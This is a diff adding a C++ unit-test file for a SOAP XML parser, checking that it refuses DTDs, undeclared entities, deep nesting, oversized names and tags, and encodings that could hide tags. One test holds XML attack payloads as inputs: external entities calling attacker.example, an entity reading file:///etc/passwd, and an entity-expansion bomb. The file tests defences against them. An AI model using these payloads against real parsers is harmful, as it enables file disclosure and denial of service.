@@ -1,0 +1,163 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "../xml_document.hpp"
+
+#include <gtest/gtest.h>
+
+#include <string>
+#include <string_view>
+
+namespace soap {
+namespace {
+
+std::string text_of(std::string_view bytes, std::string_view charset = {}) {
+  return string_value(*parse_xml(bytes, charset)->documentElement());
+}
+
+/// Why it is not read.
+std::string refusal(std::string_view bytes, std::string_view charset = {}) {
+  try {
+    const auto document = parse_xml(bytes, charset);
+    return "it was read";
+  } catch (const XmlError& error) {
+    return error.what();
+  }
+}
+
+std::string nested(int depth) {
+  std::string text;
+  for (int i = 0; i < depth; ++i) text += "<a>";
+  for (int i = 0; i < depth; ++i) text += "</a>";
+  return text;
+}
+
+std::string with_names(int count) {
+  std::string text = "<r>";
+  for (int i = 1; i < count; ++i) text += "<n" + std::to_string(i) + "/>";
+  return text + "</r>";
+}
+
+TEST(XmlDocument, HasNamespaces) {
+  const auto document = parse_xml("<p:a xmlns:p='urn:p' xmlns='urn:d'><b/></p:a>");
+  EXPECT_EQ(document->documentElement()->namespaceURI(), "urn:p");
+  EXPECT_EQ(document->documentElement()->localName(), "a");
+  EXPECT_NE(child(*document->documentElement(), "urn:d", "b"), nullptr);
+  EXPECT_EQ(child(*document->documentElement(), "", "b"), nullptr);
+  EXPECT_EQ(child(*document->documentElement(), "urn:d", "c"), nullptr);
+}
+
+TEST(XmlDocument, HasAFirstElement) {
+  const auto document = parse_xml("<a> x <!-- c --><?p i?><b/><c/></a>");
+  EXPECT_EQ(first_element(*document->documentElement())->localName(), "b");
+  EXPECT_EQ(first_element(*first_element(*document->documentElement())), nullptr);
+}
+
+TEST(XmlDocument, HasTheTextBelowAnElement) {
+  EXPECT_EQ(text_of("<a>1<b>2<![CDATA[<3>]]></b><!-- no --><?no no?>&lt;4&#x20AC;</a>"), "12<3><4\xE2\x82\xAC");
+  EXPECT_EQ(text_of("<a/>"), "");
+}
+
+TEST(XmlDocument, HasNoDtd) {
+  const std::string sentence = "it has a DTD, which SOAP forbids";
+  EXPECT_EQ(refusal("<!DOCTYPE a><a/>"), sentence);
+  EXPECT_EQ(refusal("<?xml version='1.0'?><!-- x --><!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'><a/>"),
+            sentence);
+  EXPECT_EQ(refusal("<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"), sentence);
+  EXPECT_EQ(refusal("<!DOCTYPE a [<!ENTITY a '1'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><a>&c;</a>"), sentence);
+  EXPECT_EQ(refusal("<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://attacker.example/p'>%p;]><a/>"), sentence);
+}
+
+TEST(XmlDocument, HasNoEntitiesButThoseOfXml) {
+  EXPECT_EQ(text_of("<a>&amp;&lt;&gt;&quot;&apos;</a>"), "&<>\"'");
+  EXPECT_EQ(refusal("<a>&nbsp;</a>").substr(0, 16), "Undefined entity");
+}
+
+TEST(XmlDocument, MayShowWhatADeclarationLooksLike) {
+  EXPECT_EQ(text_of("<a><![CDATA[<!DOCTYPE a>]]></a>"), "<!DOCTYPE a>");
+  EXPECT_EQ(text_of("<!-- <!DOCTYPE a> --><a/>"), "");
+}
+
+TEST(XmlDocument, IsAtMost100ElementsDeep) {
+  EXPECT_EQ(refusal(nested(100)), "it was read");
+  EXPECT_EQ(refusal(nested(101)), "it is nested deeper than 100 elements");
+  EXPECT_EQ(refusal(nested(1'000'000)), "it is nested deeper than 100 elements");
+}
+
+TEST(XmlDocument, HasAtMost1000Names) {
+  EXPECT_EQ(refusal(with_names(900)), "it was read");
+  EXPECT_EQ(refusal(with_names(1100)), "it has more than 1000 different names");
+  EXPECT_EQ(refusal(with_names(1100) + "<").substr(0, 14), "Unclosed token");
+  std::string attributes;
+  for (int i = 0; i < 1100; ++i) attributes += " n" + std::to_string(i) + "=''";
+  EXPECT_EQ(refusal("<r xmlns='urn:r'><a xmlns='urn:a'" + attributes + "/>x</r>"),
+            "it has more than 1000 different names");
+}
+
+TEST(XmlDocument, HasNoNamespacesOfMoreThan500Bytes) {
+  EXPECT_EQ(refusal("<a xmlns='" + std::string(500, 'u') + "'/>"), "it was read");
+  const std::string long_uri(501, 'u');
+  for (const std::string& hidden :
+       {"<a><b xmlns:p='" + long_uri + "'/></a>", "<a x='1' xmlns\n=\t\"" + long_uri + "\"/>", "<a xmlns='" + long_uri})
+    EXPECT_EQ(refusal(hidden), "it has a namespace of more than 500 bytes");
+  EXPECT_EQ(refusal("<a xmlns='u' b='" + long_uri + "'/>"), "it was read");
+}
+
+TEST(XmlDocument, HasNoTagsOrCommentsOfMoreThan64KiB) {
+  const std::string sentence = "it has a tag or a comment of more than 64 KiB";
+  const std::string long_text(1 << 20, 'x');
+  EXPECT_EQ(refusal("<a b='" + long_text + "'/>"), sentence);
+  EXPECT_EQ(refusal("<" + long_text + "/>"), sentence);
+  EXPECT_EQ(refusal("<a><!--" + long_text + "--></a>"), sentence);
+  EXPECT_EQ(refusal("<?x " + long_text + "?><a/>"), sentence);
+  EXPECT_EQ(refusal("<a b='" + long_text.substr(0, 60'000) + "'/>"), "it was read");
+}
+
+TEST(XmlDocument, HasTextsOfAnyLength) {
+  const std::string long_text(1 << 20, 'x');
+  EXPECT_EQ(text_of("<a>" + long_text + "</a>"), long_text);
+  EXPECT_EQ(text_of("<a><![CDATA[" + long_text + "]]></a>"), long_text);
+}
+
+TEST(XmlDocument, ReadsTheEncodingThatItDeclares) {
+  const std::string euro = "\xE2\x82\xAC";
+  const std::string umlaut = "\xC3\xA4";
+  EXPECT_EQ(text_of("<?xml version='1.0' encoding='UTF-8'?><a>\xC3\xA4</a>"), umlaut);
+  EXPECT_EQ(text_of("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><a>\xE4</a>"), umlaut);
+  EXPECT_EQ(text_of("<?xml version='1.0' encoding='ISO-8859-15'?><a>\xA4</a>"), euro);
+  EXPECT_EQ(text_of("<?xml version='1.0' encoding='Windows-1252'?><a>\x80</a>"), euro);
+  EXPECT_EQ(text_of("<?xml version='1.0' encoding='US-ASCII'?><a>&#228;</a>"), umlaut);
+}
+
+TEST(XmlDocument, BelievesTheContentTypeMoreAndAByteOrderMarkMost) {
+  EXPECT_EQ(text_of("<?xml version='1.0' encoding='UTF-8'?><a>\xE4</a>", "ISO-8859-1"), "\xC3\xA4");
+  EXPECT_EQ(text_of("<a>\xE4</a>", "iso-8859-1"), "\xC3\xA4");
+  EXPECT_EQ(text_of("\xEF\xBB\xBF<a>\xC3\xA4</a>", "ISO-8859-1"), "\xC3\xA4");
+  EXPECT_EQ(text_of("<a>\xC3\xA4</a>", "utf8"), "\xC3\xA4");
+  EXPECT_EQ(text_of("<?xml version='1.0' encoding='UTF-16'?><a>\xC3\xA4</a>", "utf-8"), "\xC3\xA4");
+}
+
+TEST(XmlDocument, RefusesEncodingsInWhichOneCouldHideATag) {
+  EXPECT_EQ(refusal("<?xml version='1.0' encoding='UTF-16'?><a/>"), "the encoding UTF-16 is not supported");
+  EXPECT_EQ(refusal("<?xml version='1.0' encoding='UTF-7'?><a/>"), "the encoding UTF-7 is not supported");
+  EXPECT_EQ(refusal("<a/>", "IBM037"), "the encoding IBM037 is not supported");
+  EXPECT_EQ(refusal("<a/>", "\xE4\n" + std::string(100, 'x')),
+            "the encoding ??" + std::string(38, 'x') + " is not supported");
+  EXPECT_EQ(refusal(std::string_view("\xFF\xFE<\0a\0/\0>\0", 10)),
+            "it holds a zero byte; UTF-16 and UTF-32 are not supported");
+}
+
+TEST(XmlDocument, RefusesBytesThatAreNotOfTheEncoding) {
+  EXPECT_NE(refusal("<a>\xE4</a>"), "it was read");
+  EXPECT_NE(refusal("<a>\xC0\xAF</a>"), "it was read");
+  EXPECT_NE(refusal("<?xml version='1.0' encoding='US-ASCII'?><a>\xE4</a>"), "it was read");
+}
+
+TEST(XmlDocument, IsWellFormed) {
+  for (const char* malformed :
+       {"", " ", "{}", "<a>", "<a></b>", "<a/><b/>", "<a b='1' b='2'/>", "<a b=1/>", "<p:a/>", "<a>&#0;</a>",
+        "<a>\x01</a>", "<html><br></html>", "<a", "<!--", "<![CDATA[", "<?xml", "<a xmlns:p=''/>", "x<a/>"})
+    EXPECT_NE(refusal(malformed), "it was read") << malformed;
+  EXPECT_EQ(refusal("<a></b>"), "Tag mismatch in line 1 column 5");
+}
+
+}  // namespace
+}  // namespace soap
